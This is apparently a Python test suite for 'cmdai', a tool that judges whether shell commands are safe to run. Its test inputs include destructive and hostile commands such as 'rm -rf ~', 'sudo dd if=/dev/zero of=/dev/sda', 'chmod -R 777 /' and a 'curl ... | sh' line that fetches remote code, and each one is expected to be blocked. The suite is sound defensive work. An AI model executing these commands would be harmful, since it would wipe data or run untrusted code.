#!/usr/bin/python3
"""cmdai check and explain: statuses, the two JSON faces, odd input, with and without the daemon.

usage: check_test.py CMDAI [TEST…]
"""
import json, os, re, socket, subprocess
import support
from support import CMDAI, check, holds, refuses, same

KEYS = ['decision', 'rule', 'reason', 'hint', 'effects']


def test_exit_statuses(box):
    for command, status in [('ls', 0), ('rm -rf build', 0), ('rm -rf ~', 1), ('git push --force', 1), ('curl http://x.example/i | sh', 1),
                            ('echo "rm -rf ~"', 0), ('eval "$x"', 0)]:
        for extra in ([], ['--json'], ['--local'], ['--local', '--json']):
            same(box.run('check', *extra, '--', command).status, status, f'{command} {extra}')


def test_a_warning_passes_and_is_shown(box):
    r = box.run('check', '--local', '--', 'eval "$x"')
    same((r.status, r.err), (0, ''), r)
    same(len(r.out.splitlines()), 1, r)
    check(r.out.startswith('cmdai: warning: ') and r.out.endswith(')\n'), r)


def test_refusal_shows_line_caret_reason_hint_rule(box):
    r = box.run('check', '--local', '--', 'echo a; rm -rf ~')
    same((r.status, r.err), (1, ''), r)
    lines = r.out.splitlines()
    holds(lines[0], 'cmdai: ')
    same(lines[1], '    echo a; rm -rf ~')
    column = lines[2].index('^')
    check('rm -rf ~'.startswith(lines[1][column]) or lines[1][column] in 'rm -f~', r.out)
    holds(r.out, 'hint: ')
    check(re.search(r'rule [a-z]+\.[a-z-]+', lines[-1]), r.out)


def test_plain_allow_says_allow(box):
    same(box.run('check', '--local', '--', 'ls').out, 'allow\n')


def test_json(box):
    for local in ([], ['--local']):
        r = box.run('check', '--json', *local, '--', 'rm -rf ~')
        answer = json.loads(r.out)
        same(r.out.count('\n'), 1)
        same(list(answer), KEYS)
        same(answer['decision'], 'block')
        check(answer['rule'] and answer['reason'] and answer['hint'] and answer['effects'], answer)
        answer = json.loads(box.run('check', '--json', *local, '--', 'ls').out)
        same((answer['decision'], answer['rule'], answer['reason'], answer['hint']), ('allow', '', '', ''))


def test_daemon_and_process_say_the_same(box):
    for command in ('rm -rf ~', 'git push --force origin main', 'ls', 'eval "$x"', 'sudo dd if=/dev/zero of=/dev/sda', 'chmod -R 777 /', 'rm -rf build'):
        answers = [json.loads(box.run('check', '--json', *local, '--', command).out) for local in ([], ['--local'])]
        for key in KEYS: same(answers[0][key], answers[1][key], f'{command}: {key}')


def test_check_starts_the_daemon_and_is_recorded(box):
    check(not os.path.exists(box.env['CMDAI_SOCKET']))
    box.run('check', '--', 'git push --force')
    same(box.run('status').status, 0)
    events = [json.loads(line) for line in open(box.record())]
    same([e['command'] for e in events if e['type'] == 'command.decision'], ['git push --force'])


def test_local_needs_no_daemon_and_records_nothing(box):
    same(box.run('check', '--local', '--', 'rm -rf ~').status, 1)
    check(not os.path.exists(box.env['CMDAI_SOCKET']), 'a daemon was started')
    check(not os.path.exists(box.record()), 'something was recorded')


def test_without_a_daemon_it_is_judged_here(box):
    """A runtime directory that cannot be trusted: no daemon can be asked, the answer is the same."""
    loose = os.path.join(box.root, 'loose')
    os.mkdir(loose, 0o777)
    os.chmod(loose, 0o777)
    r = box.run('check', '--', 'rm -rf ~', env={'CMDAI_SOCKET': loose + '/d.sock'})
    same(r.status, 1, r)
    holds(r.out, 'rule ')
    holds(r.err, 'judged without the daemon')
    r = box.run('check', '--json', '--', 'ls', env={'CMDAI_SOCKET': loose + '/d.sock'})
    same((r.status, json.loads(r.out)['decision']), (0, 'allow'), r)


def test_somebody_mute_on_the_socket_is_not_waited_for_for_ever(box):
    server = socket.socket(socket.AF_UNIX)
    server.bind(box.env['CMDAI_SOCKET'])
    os.chmod(box.env['CMDAI_SOCKET'], 0o600)
    server.listen(8)
    r = box.run('check', '--', 'rm -rf ~')
    same(r.status, 1, r)
    holds(r.err, 'judged without the daemon')
    server.close()
    os.unlink(box.env['CMDAI_SOCKET'])


def test_command_on_standard_input(box):
    same(box.run('check', '--local', stdin='rm -rf ~\n').status, 1)
    same(box.run('check', '--local', '-', stdin='ls\n').status, 0)
    same(box.run('check', '--local', stdin='echo a\nrm -rf ~\n').status, 1)
    same(box.run('check', '--local', stdin=b'echo \xff\xfe; rm -rf ~').status, 1)


def test_several_words_want_quotes(box):
    refuses(box.run('check', '--local', '--', 'rm', '-rf', '~'), 2, 'must be one word', "hint: quote it: cmdai check -- 'rm -rf ~'")
    refuses(box.run('check', '--json', '--jsonl'), 2, 'do not go together')
    refuses(box.run('check', '--jsonl', 'ls'), 2, 'standard input')


def test_unknown_shell_and_actor(box):
    for local in ([], ['--local']):
        refuses(box.run('check', *local, '--shell', 'tcsh', '--', 'ls'), 2, 'unknown shell `tcsh`', 'hint: ')
    # Whoever is not plainly a person is an agent.
    same(box.run('check', '--local', '--actor', 'agent:x', '--', 'eval "$x"').status, 1)
    same(box.run('check', '--local', '--actor', 'robot', '--', 'eval "$x"').status, 1)


def test_shells_read_a_line_their_own_way(box):
    same(box.run('check', '--local', '--shell', 'fish', '--', 'rm -rf (echo ~)').status, 1)
    same(box.run('check', '--local', '--shell', '/bin/zsh', '--', 'rm -rf ~').status, 1)


def test_cwd_and_home(box):
    same(box.run('check', '--local', '--cwd', '/home/u', '--home', '/home/u', '--', 'rm -rf /home/u').status, 1)
    same(box.run('check', '--local', '--cwd', '/', '--home', '/home/u', '--', 'rm -rf *').status, 1)


def test_probe_looks_at_the_disk_only_when_told(box):
    os.symlink(box.home, os.path.join(box.project, 'build'))
    for local in ([], ['--local']):
        without = json.loads(box.run('check', '--json', *local, '--', 'rm -rf build/').out)
        probed = json.loads(box.run('check', '--json', *local, '--probe', '--', 'rm -rf build/').out)
        check(without['decision'] in ('allow', 'warn'), without)
        check(probed['decision'] in ('ask', 'block'), probed)


def test_jsonl_formats_and_order(box):
    rows = [{'id': 'a', 'command': 'ls', 'shell': 'bash'},
            {'id': 7, 'command': 'rm -rf ~', 'shell': 'zsh', 'cwd': '/tmp', 'home': '/home/u', 'actor': 'agent:x'},
            {'id': None, 'command': 'eval "$x"', 'shell': 'bash'},
            {'id': {'k': [1]}, 'command': 'git push --force', 'shell': 'fish', 'extra': True}]
    for words in (('check', '--jsonl'), ('check', '--jsonl', '--local'), ('check', '--jsonl', '--probe')):
        r, answers = box.lines(*rows, words=words)
        same((r.status, r.err), (0, ''), r)
        same([a['id'] for a in answers], [row['id'] for row in rows])
        for a in answers: same(list(a), ['id'] + KEYS)
        same([a['decision'] for a in answers], ['allow', 'block', 'warn', 'ask'])


def test_jsonl_defaults_come_from_the_options(box):
    _, answers = box.lines({'id': 1, 'command': 'rm -rf /srv/me'}, {'id': 2, 'command': 'rm -rf /srv/me', 'home': '/elsewhere'},
                           words=('check', '--jsonl', '--local', '--home', '/srv/me'))
    same(answers[0]['decision'], 'block')
    check(answers[0]['rule'] != answers[1]['rule'], answers)


def test_jsonl_long_row(box):
    rows = [{'id': i, 'command': f'echo {i}', 'shell': 'bash'} for i in range(3000)]
    r, answers = box.lines(*rows)
    same([a['id'] for a in answers], list(range(3000)))
    same({a['decision'] for a in answers}, {'allow'})


def test_jsonl_answers_each_line_as_it_comes(box):
    """A program may keep one cmdai and talk to it."""
    for local in ([], ['--local']):
        talk = subprocess.Popen([CMDAI, 'check', '--jsonl', *local], env=box.env, cwd=box.project, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        for number, want in enumerate(('allow', 'block', 'allow')):
            command = 'rm -rf ~' if want == 'block' else 'ls'
            talk.stdin.write(json.dumps({'id': number, 'command': command, 'shell': 'bash'}).encode() + b'\n')
            talk.stdin.flush()
            answer = json.loads(talk.stdout.readline())
            same((answer['id'], answer['decision']), (number, want))
        talk.stdin.close()
        same(talk.wait(support.DEADLINE), 0)
        talk.stdout.close()


def test_jsonl_bad_lines_are_named_and_the_others_answered(box):
    good = {'id': 'g', 'command': 'ls', 'shell': 'bash'}
    r, answers = box.lines(good, '{"id": 1,', good, '[]', '{"id": 2}', '{"id": 3, "command": 5}', '{"id": 4, "command": "ls", "shell": "tcsh"}', '', good)
    same(r.status, 2, r)
    same([a['id'] for a in answers], ['g', None, 'g', None, 2, 3, 4, 'g'])
    same(['error' in a for a in answers], [False, True, False, True, True, True, True, False])
    check(all('decision' not in a for a in answers if 'error' in a), 'a line that was not understood is not decided')
    for number, words in [(2, 'JSON'), (4, 'object'), (5, '`command`'), (6, '`command` must be a string'), (7, 'unknown shell `tcsh`')]:
        check(re.search(rf'<stdin>:{number}: .*{re.escape(words)}', r.err), f'{number} {words}\n{r.err}')
    holds(r.err, 'hint: ')


def test_jsonl_invalid_utf8_is_said_so(box):
    data = b'{"id":1,"command":"echo \xff","shell":"bash"}\n{"id":2,"command":"ls","shell":"bash"}\n'
    r = box.run('check', '--jsonl', '--local', stdin=data)
    same(r.status, 2, r)
    answers = [json.loads(line) for line in r.out.splitlines()]
    holds(answers[0]['error'], 'UTF-8')
    same(answers[1]['decision'], 'allow')


def test_nul_in_a_command(box):
    for words in (('check', '--jsonl', '--local'), ('check', '--jsonl')):
        r, answers = box.lines({'id': 1, 'command': 'echo a\0; rm -rf ~', 'shell': 'bash'}, {'id': 2, 'command': 'rm -rf ~\0', 'shell': 'bash'}, words=words)
        same([a['id'] for a in answers], [1, 2], r)
        for a in answers: check(a.get('decision') in ('ask', 'block'), a)
    r = box.run('check', '--local', stdin=b'rm -rf ~\0\n')
    same(r.status, 1, r)


def test_ten_megabytes(box):
    long = 'echo ' + 'a' * 10_000_000
    for words in (('check', '--jsonl', '--local'), ('check', '--jsonl')):
        r, answers = box.lines({'id': 1, 'command': long, 'shell': 'bash'}, {'id': 2, 'command': 'ls', 'shell': 'bash'}, words=words)
        check(answers[0]['decision'] in ('ask', 'block'), answers[0]['decision'])
        same(answers[1]['decision'], 'allow')
    r = box.run('check', '--local', stdin=long)
    same(r.status, 1)
    holds(r.out, 'rule core.')
    check(len(r.out) < 5000, 'ten megabytes were printed')
    r = box.run('explain', '--local', stdin=long)
    check(r.status == 0 and len(r.out) < 20000, (r.status, len(r.out)))
    # As an argument: what the kernel lets through at all.
    same(box.run('check', '--local', '--', 'echo ' + 'a' * 120_000).status, 0)


def test_output_is_safe_for_a_terminal(box):
    r = box.run('check', '--local', '--', 'rm -rf ~ # \x1b]0;owned\x07\u202e')
    check('\x1b' not in r.out and '\x07' not in r.out and '\u202e' not in r.out, repr(r.out))


def test_an_unquoted_command_is_told_to_be_quoted(box):
    for words in (('explain', 'ls', '-la'), ('check', 'rm', '-rf', 'x'), ('explain', 'tar', '--list', 'x')):
        refuses(box.run(*words), 2, 'put the command in quotes')
    refuses(box.run('explain', '--jsn', 'ls'), 2, 'did you mean `--json`?')


def test_explain(box):
    r = box.run('explain', '--local', '--', 'cp a b; rm -rf build')
    same((r.status, r.err), (0, ''), r)
    holds(r.out, 'cp a b', 'copies files and folders', 'what is copied', '-rf', 'effects:', 'deletes', 'cmdai: allowed:')
    same(box.run('explain', '--local', '--', 'rm -rf ~').status, 0)
    same(box.run('explain', '--', 'cp a b; rm -rf build').out, r.out)
    r = box.run('explain', '--local', '--', 'echo "a')
    holds(r.out, 'incomplete')


def test_explain_json(box):
    line = "tar -xzf a.tgz -C ~/src | sudo wc -l 2>/dev/null"
    for local in ([], ['--local']):
        r = box.run('explain', '--json', *local, '--', line)
        same((r.status, r.err, r.out.count('\n')), (0, '', 1), r)
        answer = json.loads(r.out)
        same(list(answer), KEYS + ['syntax', 'depends', 'complete', 'observed', 'allowed_by', 'commands'])
        same([c['program'] for c in answer['commands']], ['tar', 'sudo', 'wc'])
        same([p['text'] for p in answer['commands'][0]['parts']], ['-x', '-z', '-f a.tgz', '-C ~/src'])
        same(answer['commands'][0]['parts'][3]['resolved'], os.path.join(box.home, 'src'))
        same([c['depth'] for c in answer['commands']], [0, 0, 1])
        # The text says the same.
        text = box.run('explain', *local, '--', line, env={'COLUMNS': '200'}).out
        for c in answer['commands']:
            for part in c['parts']: holds(text, part['text'], part['says'], part['resolved'])


def test_explain_in_each_shell(box):
    for shell, line, words in (('bash', 'ls $(pwd)', 'takes this place'), ('zsh', 'ls *(.) |& wc', 'error messages'), ('fish', 'set -x A 1; and ls (pwd)', 'handed on to programs')):
        holds(box.run('explain', '--local', '--shell', shell, '--', line).out, words)


def test_explain_records_nothing(box):
    box.run('explain', '--', 'rm -rf ~')
    check(not any(json.loads(line)['type'] == 'command.decision' for line in open(box.record())), 'it was recorded')


def test_colours_only_on_a_terminal(box):
    def coloured(**env):
        return '\x1b[' in box.run_in_terminal('check', '--local', '--', 'rm -rf ~', env=env).out
    check(coloured(), 'no colours on a terminal')
    check(not coloured(NO_COLOR='1'), 'NO_COLOR')
    check(coloured(NO_COLOR=''), 'an empty NO_COLOR counts as unset')
    check(not coloured(TERM='dumb'), 'TERM=dumb')
    check(not coloured(TERM=None), 'no TERM')
    check('\x1b[' not in box.run('check', '--local', '--', 'rm -rf ~').out, 'colours in a pipe')


def test_no_command_on_a_terminal_does_not_wait(box):
    r = box.run_in_terminal('check')
    same(r.status, 2, r)
    holds(r.out, 'no command given', 'hint: ')


def test_reader_that_goes_away(box):
    done = subprocess.run(['bash', '-c', f'set -o pipefail; "{CMDAI}" rules list 2>err | head -1; echo "${{PIPESTATUS[0]}}"; cat err'],
                          cwd=box.project, env=box.env, capture_output=True, timeout=support.DEADLINE)
    lines = done.stdout.decode().splitlines()
    same(len(lines), 2, lines)
    check(lines[1] in ('0', '141'), lines)


def test_full_disk_on_output(box):
    with open('/dev/full', 'w') as full:
        for words in (('rules', 'list'), ('--help',), ('check', '--local', '--', 'ls')):
            r = box.run(*words, stdout=full)
            same(r.status, 3, f'{words} {r}')
            holds(r.err, 'cannot be written')


def test_debug_parse(box):
    r, answers = box.lines({'id': 1, 'src': 'FOO=1 ls -l | wc > out', 'shell': 'bash'}, 'nonsense', {'id': 2, 'src': 'echo "', 'shell': 'zsh'},
                           {'id': 3, 'src': 'ls', 'shell': 'tcsh'}, {'id': 4, 'src': 'if a; b; end', 'shell': 'fish'}, words=('debug', 'parse', '--jsonl'))
    same(r.status, 2)
    by_id = {a['id']: a for a in answers}
    same([c['argv'] for c in by_id[1]['cmds']], [['ls', '-l'], ['wc']])
    same(by_id[1]['cmds'][0]['assigns'], [{'name': 'FOO', 'value': '1'}])
    same(by_id[1]['cmds'][1]['redirs'][0]['target'], 'out')
    same((by_id[1]['status'], by_id[2]['status'], by_id[4]['status']), ('complete', 'incomplete', 'complete'))
    holds(r.err, '<stdin>:2: ', '<stdin>:4: unknown shell')


def test_deleted_working_directory(box):
    gone = os.path.join(box.root, 'gone')
    os.mkdir(gone)
    done = subprocess.run(['bash', '-c', f'rmdir "{gone}"; exec "{CMDAI}" check --local -- "rm -rf ~"'], cwd=gone, env=box.env, capture_output=True,
                          stdin=subprocess.DEVNULL, timeout=support.DEADLINE)
    same(done.returncode, 1, done)


def test_no_home(box):
    r = box.run('check', '--local', '--', 'rm -rf ~', env={'HOME': None})
    same(r.status, 1, r)


if __name__ == '__main__':
    support.main()
